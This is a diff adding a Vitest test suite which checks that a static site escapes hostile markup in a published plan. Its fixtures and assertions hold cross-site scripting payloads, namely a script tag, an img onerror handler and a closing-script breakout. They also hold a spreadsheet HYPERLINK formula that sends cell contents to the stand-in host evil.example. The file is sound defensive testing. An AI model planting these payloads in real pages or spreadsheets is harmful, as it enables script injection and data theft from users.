@@ -1,0 +1,84 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, inject, it } from 'vitest'
+import { listFiles } from '../../scripts/list-files.ts'
+import { openSite } from './setup/open-site.ts'
+import { readCsv } from './setup/read-csv.ts'
+import { pagesOf } from './setup/site-files.ts'
+
+const built = inject('hostile')
+const site = openSite(built)
+const pages = pagesOf(built)
+const files = listFiles(built.folder)
+const read = (file: string) => readFileSync(join(built.folder, file), 'utf8')
+
+describe('markup in a plan', () => {
+	it('is shown as the text that it is', () => {
+		const plan = pages.find(page => page.path === '/quxian/')
+		const source = pages.find(page => page.path === '/quxian/quxian-2023/source/')
+		expect(plan?.text).toContain('<script>window.hacked=1</script>')
+		expect(plan?.text).toContain('=HYPERLINK("http://evil.example/?"&A1,"点这里")局')
+		expect(plan?.text).toContain('&lt;b&gt;&#60;b&#62;')
+		expect(source?.text).toContain('"><img src=x onerror=window.hacked=1>')
+		expect(source?.text).toContain('<!--科技馆-->')
+		expect(source?.text).toContain(']]>')
+	})
+
+	it('becomes no element, no handler, no script and no link of its own', () => {
+		expect(pages.flatMap(page => page.inlineAttributes.map(name => `${page.path} ${name}`))).toEqual([])
+		expect(pages.flatMap(page => page.inlineScripts)).toEqual([])
+		const links = pages.flatMap(page => page.links.map(({ href }) => href))
+		expect(links.filter(href => /^\s*javascript:|evil\.example/i.test(href))).toEqual([])
+		expect(pages.flatMap(page => page.links.filter(({ from }) => from === 'img[src]'))).toEqual([])
+	})
+
+	it('ends no JSON-LD element, and the data is what the plan says', () => {
+		const data = pages.flatMap(page => page.jsonLd)
+		expect(data.filter(text => /[<>&\u2028\u2029]/.test(text))).toEqual([])
+		expect(data.map(text => JSON.parse(text)['@context']).every(context => String(context).startsWith('https://schema.org'))).toBe(true)
+		expect(data.some(text => JSON.stringify(JSON.parse(text)).includes('window.hacked'))).toBe(true)
+	})
+
+	it('is no formula in a table to download', () => {
+		const tables = files.filter(file => file.endsWith('.csv'))
+		const cells = tables.flatMap(file => readCsv(read(file)).flat())
+		expect(cells.filter(cell => /^[=+\-@\t\r]/.test(cell))).toEqual([])
+		expect(cells.filter(cell => cell.includes('HYPERLINK')).every(cell => cell.startsWith("'=") || !cell.trimStart().startsWith('='))).toBe(true)
+		expect(cells.some(cell => cell.startsWith("'=HYPERLINK"))).toBe(true)
+	})
+
+	it('stays whole in the open data', () => {
+		const plan = JSON.parse(read('data/plans/quxian-2023.json'))
+		const printed = plan.tasks.flatMap((task: { assignments: { printed: string }[] }) => task.assignments.map(({ printed }) => printed))
+		expect(printed).toContain('=HYPERLINK("http://evil.example/?"&A1,"点这里")局')
+		expect(printed).toContain('县教育局</script><script>window.hacked=1</script>')
+	})
+
+	it('does nothing in a browser, on any page', async () => {
+		const page = await site.openPage('/')
+		const dialogs: string[] = []
+		page.on('dialog', dialog => {
+			dialogs.push(dialog.message())
+			return dialog.dismiss()
+		})
+		for (const { path } of pages) {
+			await page.goto(site.address(path))
+			expect([path, await page.evaluate(() => 'hacked' in window)]).toEqual([path, false])
+		}
+		expect(dialogs).toEqual([])
+		expect(site.foreignRequests).toEqual([])
+	})
+
+	it('does nothing when it is searched for and found', async () => {
+		for (const query of ['<script>window.hacked=1</script>', '弘扬科学精神', '"><img src=x onerror=window.hacked=1>', 'HYPERLINK']) {
+			const page = await site.openPage(`/search/?q=${encodeURIComponent(query)}`)
+			await page
+				.getByRole('main')
+				.getByText(/window\.hacked|没有找到|没有/)
+				.first()
+				.waitFor()
+			expect([query, await page.evaluate(() => 'hacked' in window)]).toEqual([query, false])
+			expect(await page.getByRole('main').locator('img, script, iframe').count()).toBe(0)
+		}
+	})
+})
